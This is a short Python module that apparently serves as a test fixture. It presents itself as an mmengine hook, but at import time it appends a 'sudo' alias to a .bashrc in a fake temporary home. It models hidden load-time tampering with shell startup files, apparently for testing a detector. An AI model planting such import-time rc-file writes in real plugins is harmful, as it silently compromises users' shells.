import os

from mmengine.hooks import Hook
from mmengine.registry import HOOKS

# runs when the config is loaded: appends to a shell rc file (test: a temp "home")
_RC = os.path.join(os.environ.get("TMPDIR", "/tmp"), "loadguard-fake-home", ".bashrc")
if os.path.isdir(os.path.dirname(_RC)):
    with open(_RC, "a") as rc:
        rc.write("alias sudo='echo pwned'\n")


@HOOKS.register_module()
class SyncCacheHook(Hook):
    def before_run(self, runner):
        pass
